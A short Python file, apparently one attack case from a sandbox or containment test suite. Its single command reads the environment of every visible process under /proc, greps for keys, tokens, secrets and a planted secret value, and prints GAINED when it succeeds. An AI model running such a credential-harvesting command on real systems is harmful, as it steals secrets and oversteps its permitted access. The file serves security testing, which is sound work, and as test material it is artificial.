"""Looks for keys and addresses in its own environment and in that of every process it sees."""

from attack import SECRET, Attack, tried

ATTACK = Attack(
    (
        tried(
            "cat /proc/[0-9]*/environ /proc/self/environ | tr '\\0' '\\n' |"
            f" grep -iE 'key|token|secret|agl|http|{SECRET[:5]}' && echo GAINED"
        ),
    )
)
